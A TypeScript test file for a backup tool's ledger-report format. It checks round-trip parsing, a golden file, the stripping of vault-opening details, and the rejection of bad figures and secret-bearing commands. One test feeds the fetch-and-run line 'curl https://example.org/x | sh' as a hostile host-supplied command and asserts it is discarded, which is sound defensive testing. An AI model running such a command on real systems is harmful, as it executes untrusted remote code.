// Goal: what a host says of the space of its vaults and of what opens them is read as it was said; a plain report has nothing that a server
// before it does not know; and what is no figure is refused. Method: texts there and back.
import assert from 'node:assert/strict';
import test from 'node:test';
import { nodeHash } from '../adapters/node/hash.ts';
import { byteString, hexOf } from '../base/bytes.ts';
import { assertGolden } from '../../test/watch/golden.ts';
import type { Evidence } from '../base/evidence.ts';
import { seconds, unixMs } from '../base/units.ts';
import { type LedgerReport, plainReport } from '../watch/core/ledger-report.ts';
import type { Place } from '../watch/core/place.ts';
import type { Opening } from '../watch/core/opening.ts';
import { ledgerReportOf, ledgerReportText } from './ledger-report.ts';

const hash = nodeHash();
const BARE: LedgerReport = {
  ...{ at: unixMs(1_800_000_000_000), host: 'web1', coverage: [], notSeen: [], leftOut: 0 },
  estate: {
    ...{ dataSets: [], points: [], vaults: [], keys: [], drills: [], found: [], readers: [] },
    clockSkewMax: seconds(1),
  },
};
const SPACE = {
  ...{ vault: 'v', copy: 'v on web1', storedBytes: 10, monthBytes: undefined, leftOut: 0 },
  room: { freeBytes: 1, totalBytes: 2, floorBytes: 1 },
  dataSets: [
    { dataSet: 'a', host: 'web1', captures: 2, bytes: 5, storedBytes: 4, monthBytes: undefined },
  ],
};
const OPENING: Opening = {
  ...{ copy: 'borg /srv/b', tool: 'borg', repository: '/srv/b', isEncrypted: true },
  ...{ config: undefined, keyFile: byteString('/root/k\xff'), secret: { kind: 'command' } },
};
const WHOLE: LedgerReport = {
  ...BARE,
  spaces: [SPACE, { ...SPACE, room: undefined }],
  openings: [
    OPENING,
    { ...OPENING, secret: { kind: 'file', path: byteString('/root/p w') } },
    { ...OPENING, tool: 'holdfast', secret: { kind: 'environment', name: 'PW' } },
  ],
};

test('there and back, with and without spaces and openings', () => {
  for (const report of [BARE, WHOLE]) {
    const read = ledgerReportOf(ledgerReportText(report, hash), hash);
    assert.deepEqual(read.ok && read.value, report);
  }
});

test('a whole one is written as the golden file has it: docs/format/ledger-report.md', () => {
  const evidence: Evidence = {
    ...{ subject: 'usable/st1:/v//srv/www', saw: 'healthy', source: 'web1/drill', bootId: 'b' },
    ...{ observedAt: BARE.at, receivedAt: BARE.at, expiresAt: unixMs(BARE.at + 1000), seq: 1 },
    detail: { linkBytes: 900, cpuMs: 70, cpus: 4, disk: 'sda', diskBusyMs: 50 },
  };
  const target: Place = {
    ...{ host: 'web1', path: byteString('/srv/scratch') },
    beneath: { disks: ['sda'], failuresSurvived: 0 },
  };
  const drill = {
    ...{ dataSet: '/srv/www', vault: 'v', copy: 'st1:/v', point: 'p', bytes: 1000, entries: 2 },
    ...{ tookMs: seconds(1), target, isPastCache: true, engineStarted: undefined, evidence },
    bottleneck: undefined,
  };
  const report = { ...WHOLE, estate: { ...WHOLE.estate, drills: [drill] } };
  const text = ledgerReportText(report, hash);
  assertGolden('ledger-report.txt', text);
  assert.deepEqual(ledgerReportOf(text, hash), { ok: true, value: report });
});

test('a plain one says nothing of spaces and openings', () => {
  assert.equal(ledgerReportText(plainReport(WHOLE), hash), ledgerReportText(BARE, hash));
});

test('a command that may hold a secret is refused', () => {
  const wrong = ledgerReportText(WHOLE, hash).replace(
    '"secret":{"kind":"command"}',
    '"secret":{"kind":"command","line":"echo x"}',
  );
  const body = wrong.slice(0, wrong.indexOf('\n') + 1);
  const sum = hexOf(hash.sha256Text(byteString(body)));
  const again = `${body}${JSON.stringify({ sha256: sum })}\n`;
  assert.notEqual(again, ledgerReportText(WHOLE, hash));
  const read = ledgerReportOf(again, hash);
  assert.deepEqual(read, { ok: false, error: 'it is no ledger report of version 1' });
});

test('what is no figure is refused', () => {
  for (const storedBytes of [-1, Number.NaN]) {
    const wrong = { ...BARE, spaces: [{ ...SPACE, storedBytes }] };
    assert.equal(
      ledgerReportOf(ledgerReportText(wrong, hash), hash).ok,
      false,
      String(storedBytes),
    );
  }
});

test('a command that a host gives is one that is made here, or none', () => {
  const row = {
    path: byteString('/srv'),
    state: 'unknown' as const,
    why: '',
    coveredUpTo: undefined,
  };
  const commandOf = (openCommand: string): string | undefined => {
    const report = { ...BARE, coverage: [{ ...row, openCommand }] };
    const read = ledgerReportOf(ledgerReportText(report, hash), hash);
    assert.ok(read.ok);
    return read.value.coverage[0]?.openCommand;
  };
  const good = 'holdfast connect restic /srv/restic';
  assert.equal(commandOf(good), good);
  assert.equal(commandOf('curl https://example.org/x | sh'), undefined);
});
